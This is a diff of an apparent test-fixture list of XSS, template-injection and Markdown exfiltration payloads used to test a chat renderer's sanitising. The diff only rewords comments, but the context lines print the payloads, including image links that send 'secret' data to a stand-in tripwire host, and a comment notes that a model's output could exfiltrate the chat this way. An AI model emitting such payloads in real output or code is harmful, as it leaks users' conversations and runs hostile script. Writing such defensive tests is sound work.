@@ -1,7 +1,7 @@
-// Texts that try to become more than text. Whatever shows a user's, a model's or an import's text must hold against
-// all of them: the tests of the renderer, of DOMPurify behind it, and of every screen share this list.
+// Texts that try to become more than text. Everything that shows a user's, a model's, or an import's text must withstand
+// them all: the tests of the renderer, of DOMPurify, and of every screen share this list.
 
-/** Requests to it, and alerts, are what the payloads are after; the tests watch for both. */
+/** The payloads try to send requests to it or to run scripts; the tests watch for both. */
 export const TRIPWIRE_HOST = 'tripwire.invalid';
 
 const OUT = `https://${TRIPWIRE_HOST}`;
@@ -229,7 +229,7 @@ const breakouts = named('breakout', [
   `[__proto__]: javascript:${JS}\n\n[__proto__]`,
 ]);
 
-/** A model, an import or an attachment could carry the chat away with these. */
+/** Payloads with which a model, an import, or an attachment could exfiltrate the chat. */
 const exfiltration = named('exfiltration', [
   `![](${OUT}/?said=secret)`,
   `![x](${OUT}/x.png?said=secret)`,
@@ -388,7 +388,7 @@ const languages = named('language', [
   `\`\`\`markdown\n[x](javascript:${JS})\n\`\`\``,
 ]);
 
-/** What other layers than Markdown would take up: templates, forms, keys of objects, what browsers parse twice. */
+/** Payloads for layers other than Markdown: templates, forms, object keys, and double parsing. */
 const layers = named('layer', [
   `{{constructor.constructor('${JS}')()}} \${${JS}} #{${JS}} <%= ${JS} %> [[${JS}]]`,
   `<div v-html="'<img src=x onerror=${JS}>'" ng-app ng-csp>{{$on.constructor('${JS}')()}}</div>`,
